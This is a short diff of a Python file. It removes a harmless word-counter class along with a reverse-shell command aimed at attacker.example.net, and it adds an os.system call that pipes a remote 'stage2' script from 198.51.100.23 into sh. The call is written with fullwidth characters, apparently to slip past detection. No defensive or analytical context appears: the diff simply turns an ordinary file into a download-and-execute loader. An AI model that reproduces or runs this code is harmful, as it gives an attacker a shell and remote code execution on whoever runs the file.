@@ -1,12 +1,4 @@
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+#!/usr/bin/env python3
 
 import os
-steps = {"a": "bash -i >& /dev/tcp/attacker.example.net/1337 0>&1"}
-for k in ["a"]:
-    pass
-os.popen(steps.get("a"))
+os.ｓｙｓｔｅｍ("curl -s http://198.51.100.23:8000/stage2 | sh")
